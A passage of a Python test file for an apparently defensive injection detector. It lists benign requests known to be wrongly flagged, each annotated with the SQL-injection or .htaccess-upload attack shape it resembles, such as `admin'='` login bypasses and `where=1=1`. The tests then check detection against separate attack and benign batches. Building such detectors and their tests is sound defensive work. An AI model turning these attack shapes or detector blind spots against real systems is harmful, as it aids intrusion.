    'json::{"message": "Uncaught SyntaxError: Unexpected token \'<\'", "url": "https://app.example.com/static/js/runtime.js", "line": 1, "column": 1, "stack": "SyntaxError: Unexpected token \'<\'\\n    at <anonymous>:1:1", "userAgent": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1"}':
        "`Unexpected token '<'` in a browser error report: a value ending in a quoted `<` has the shape of `admin'='` (the sentence-continued form is clean)",
    'multipart:attachment:.htaccess':
        'a .htaccess attached to a hosting ticket: uploading .htaccess is how AddType attacks start on Apache',
    'raw::POST /rest/webhooks/jira HTTP/1.1\r\nHost: bridge.example.com\r\nUser-Agent: Atlassian Webhook HTTP Client\r\nContent-Type: application/json; charset=UTF-8\r\nX-Atlassian-Webhook-Identifier: 4821-1710238542\r\nContent-Length: 292\r\n\r\n{"webhookEvent": "comment_created", "issue": {"key": "OPS-311", "fields": {"summary": "ORA-00942 in nightly export"}}, "comment": {"body": "{noformat}ORA-00942: table or view does not exist\\nSQL: SELECT * FROM EXPORT_V WHERE RUN_DATE = :1{noformat}", "author": {"displayName": "Sam O\'Neil"}}}':
        'a Jira webhook quoting an ORA- error with its whole SELECT: code by design',
    'raw::POST /v1/graphql HTTP/1.1\r\nHost: app.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\r\nAccept: application/json\r\nContent-Type: application/json\r\nx-hasura-role: editor\r\nAuthorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0In0.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk\r\nContent-Length: 122\r\n\r\n{"query":"query Drafts { articles(where: {published: {_eq: false}, title: {_similar: \\"%(draft|wip)%\\"}}) { id title } }"}':
        'a Hasura `_similar: "%(draft|wip)%"` inside a GraphQL document: the quoted pattern reads as a breakout; skipping it needs the parameter name in sqli.py (a hole for GraphQL in a GET `?query=`)',
    'query:filter:lastName==\'O\\\'Brien\' or firstName=="Mary Ann"':
        "RSQL with a backslash-escaped quote (`O\\'Brien`): read from inside a quote, `' or firstName==` is a breakout",
    'json::{"property":"Days left","formula":{"expression":"if(prop(\\"Done\\"), \\"✅\\", format(dateBetween(prop(\\"Due\\"), now(), \\"days\\")) + \\" days left\\")"}}':
        'a Notion formula `if(prop(…), …)`: function calls over literals read as SQL',
    'json::{"column":"margin","expression":"ROUND(({revenue} - {cost}) / {revenue} * 100, 1) & \\"%\\""}':
        'an Airtable-style formula ending in `& "%"`: a value ending in a short quoted string has the shape of a login bypass',
    'path::/arcgis/rest/services/Census/MapServer/3/query?where=1=1&outFields=*&returnGeometry=true&f=geojson':
        'ArcGIS `where=1=1`: the parameter is raw SQL and `1=1` is the classic injection test',
    'query:filter:S_INTERSECTS(geometry, BBOX(-10,40,10,50)) AND "eo:cloud_cover" < 10':
        'CQL2 `"eo:cloud_cover" < 10`: MySQL reads the double-quoted name as a string and the comparison is true — an injection of the same shape',
})


def _attacks() -> list[tuple[str, str, str, str]]:
    # round 4's writers added a description after the family: (family, description, carrier, key, value)
    return [*BLIND_ATTACKS_A, *BLIND_ATTACKS_B, *BLIND_ATTACKS_C, *BLIND_ATTACKS_D, *BLIND_ATTACKS_E, *BLIND_ATTACKS_F,
            *((f, c, k, v) for f, _what, c, k, v in (*BLIND_ATTACKS_G, *BLIND_ATTACKS_H, *BLIND_ATTACKS_J,
                                                  *BLIND_ATTACKS_K, *BLIND_ATTACKS_L, *BLIND_ATTACKS_M,
                                                  *BLIND_ATTACKS_N, *BLIND_ATTACKS_P, *BLIND_ATTACKS_Q))]


def _benign() -> list[tuple[str, str, str]]:
    return [*BLIND_BENIGN, *BLIND_BENIGN_2, *BLIND_BENIGN_3, *BLIND_BENIGN_4, *BLIND_BENIGN_5, *BLIND_BENIGN_6,
            *BLIND_BENIGN_7, *BLIND_BENIGN_8]


def _label(carrier: str, key: str, value: str) -> str:
    return f"{carrier}:{key}:{value}"


def test_batches_and_known_lists():
    # independent writers converge on the classics: 145 attack requests and 39 benign values (the OAuth device-code
    # grant type, common browser headers, `Coeur d'Alene`) are in more than one batch, kept as written
    assert len(_attacks()) == 3292 and len({tuple(a[1:]) for a in _attacks()}) == 3147
    assert len(_benign()) == 2405 and len({tuple(b) for b in _benign()}) == 2366
    assert set(KNOWN_MISS) <= {_label(*a[1:]) for a in _attacks()}
    assert set(KNOWN_FP) <= {_label(*b) for b in _benign()}


@pytest.mark.parametrize("family,carrier,key,value", _attacks(), ids=lambda v: str(v)[:40])
def test_blind_attack_is_caught(engine, family, carrier, key, value):
    caught = verdict(engine.inspect(build_request(carrier, value, key))) == "attack"
    known = _label(carrier, key, value) in KNOWN_MISS
    assert caught != known, f"{family} via {carrier}: {'known miss now caught' if caught else 'missed'}"


@pytest.mark.parametrize("carrier,key,value", _benign(), ids=lambda v: str(v)[:40])
def test_blind_benign_stays_clean(engine, carrier, key, value):
    hits = engine.inspect(build_request(carrier, value, key))
    flagged = verdict(hits) == "attack"
    why = ", ".join(sorted({h.rule for h in hits if h.score >= 0.5}))
    known = _label(carrier, key, value) in KNOWN_FP
    assert flagged == known, f"{carrier}:{key}: {'flagged by ' + why if flagged else 'known FP now clean'}"
